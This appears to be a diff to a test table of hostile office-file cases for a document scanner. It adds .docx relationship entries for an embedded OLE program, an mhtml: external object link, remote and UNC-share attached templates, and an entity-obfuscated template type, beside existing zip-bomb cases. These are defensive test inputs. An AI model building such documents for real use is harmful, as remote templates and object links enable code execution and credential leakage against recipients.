@@ -59,6 +59,13 @@ HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
     "a document with a program inside": ("a.docx", lambda: made.word(OLE), "program"),
     "a document that fetches another": ("a.docx", lambda: made.word(
         ("word/_rels/settings.xml.rels", b'<Relationship Type="x/attachedTemplate" Target="http://x"/>')), "fetches"),
+    "a document with a program by another name": ("a.docx", lambda: made.related("oleObject", "word/a.bin"), "program"),
+    "a document that starts what is elsewhere": ("a.docx", lambda: made.related(
+        "oleObject", "mhtml:http://a.example/x!x", "External"), "program"),
+    "a document with its template far away": ("a.docx", lambda: made.related(
+        "attached&#84;emplate", "http://a.example/a.dotm", "External"), "fetches"),
+    "a document with its template on a share": ("a.docx", lambda: made.related(
+        "attachedTemplate", "file:///\\\\a.example\\b.dotm", "External"), "fetches"),
     "an open document with macros": ("a.odt", lambda: made.open_document(("Basic/Standard/a.xml", b"x")), "macros"),
     "a bomb": ("plan.docx", lambda: made.word(("word/media/much.bin", BOMB)), "unpacks to far more"),
     "a bomb that lies about its size": ("plan.docx", made.lying_archive, "damaged|unpacks"),
